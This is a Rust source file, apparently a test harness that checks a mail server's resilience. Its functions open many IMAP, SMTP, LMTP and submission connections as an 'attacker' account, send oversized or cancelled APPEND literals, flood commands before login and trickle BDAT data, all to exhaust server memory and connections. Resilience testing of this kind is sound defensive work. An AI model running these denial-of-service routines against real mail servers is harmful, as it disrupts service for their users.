//! What is not finished: octets after a large literal, writes during one, a login, refused data.

use std::io::Write;

use super::lines::PLAIN;
use super::outcome::{Outcome, text};
use crate::stage::{ATTACKER, PASSWORD, Stage, push};

/// An empty message at the end cancels the command (RFC 3502 §3). The octet behind it came in the
/// same packet.
pub fn behind(stage: &Stage) -> Outcome {
    let message = vec![b'x'; stage.of(12 << 20, 60_000_000)];
    let mut open = Vec::new();
    for _ in 0..stage.of(30, 50) {
        let mut client = stage.login(ATTACKER).map_err(text)?;
        client.send(format!("a APPEND INBOX {{{}+}}\r\n", message.len()).as_bytes()).map_err(text)?;
        client.send(&message).map_err(text)?;
        client.send(b" {0+}\r\n\r\nx").map_err(text)?;
        let line = client.line().map_err(text)?;
        if !line.starts_with("a NO [CANNOT]") {
            return Err(format!("a cancelled APPEND was answered {line:?}"));
        }
        open.push(client);
    }
    stage.hold()?;
    Ok(format!("{} wait behind {} MB each", open.len(), message.len() / 1_000_000))
}

/// Each literal of one octet is answered with a line that nobody reads. At full scale these
/// messages fill the account's share of memory, so the last one waits until they are evicted.
pub fn beside(stage: &Stage) -> Outcome {
    let size = stage.of(2 << 20, 60_000_000);
    let mut open = Vec::new();
    for _ in 0..stage.of(3, 4) {
        let mut socket = stage.socket("imap").map_err(text)?;
        let lines = format!("l LOGIN {ATTACKER} \"{PASSWORD}\"\r\na APPEND INBOX {{{size}+}}\r\n");
        socket.write_all(lines.as_bytes()).map_err(text)?;
        socket.write_all(&vec![b'x'; size]).map_err(text)?;
        let mut left = stage.of(100, 1000);
        push(stage, &mut socket, || {
            left = left.checked_sub(1)?;
            Some(b" {1}\r\nx".repeat(1000))
        })?;
        open.push(socket);
    }
    let mut last = stage.login(ATTACKER).map_err(text)?;
    last.send(format!("b APPEND INBOX {{{size}}}\r\n").as_bytes()).map_err(text)?;
    last.line().map_err(text)?;
    last.send(&vec![b'x'; size]).map_err(text)?;
    last.send(b" {0+}\r\n\r\n").map_err(text)?;
    let line = last.line().map_err(text)?;
    if !line.starts_with("b NO [CANNOT]") {
        return Err(format!("the APPEND of another session was answered {line:?}"));
    }
    stage.hold()?;
    Ok(format!("{} read no answer, another one is served", open.len()))
}

/// Input that is always there before a login. Tests of the sessions show that the deadline ends it.
pub fn ready(stage: &Stage) -> Outcome {
    let (mut open, mut sent) = (Vec::new(), 0);
    for n in 0..stage.of(12, 200) {
        let mut socket = stage.socket(PLAIN[n % PLAIN.len()]).map_err(text)?;
        let mut left = stage.of(4, 20);
        sent += push(stage, &mut socket, || {
            left = left.checked_sub(1)?;
            Some(b"a NOOP\r\n".repeat(1000))
        })?;
        open.push(socket);
    }
    stage.hold()?;
    Ok(format!("{} KiB of commands before a login, {} connections", sent >> 10, open.len()))
}

/// Data for nobody, octet by octet.
pub fn trickled(stage: &Stage) -> Outcome {
    let mut open = Vec::new();
    for n in 0..stage.of(30, 500) {
        let mut socket = stage.socket(["smtp", "lmtp", "submission"][n % 3]).map_err(text)?;
        socket.write_all(b"EHLO a.example\r\nBDAT 134217728\r\n").map_err(text)?;
        open.push(socket);
    }
    let count = open.len();
    for _ in 0..stage.of(10, 100) {
        // A connection that the server closed no longer counts.
        open.retain_mut(|socket| socket.write_all(b"x").is_ok());
    }
    stage.hold()?;
    Ok(format!("{} of {count} still open", open.len()))
}
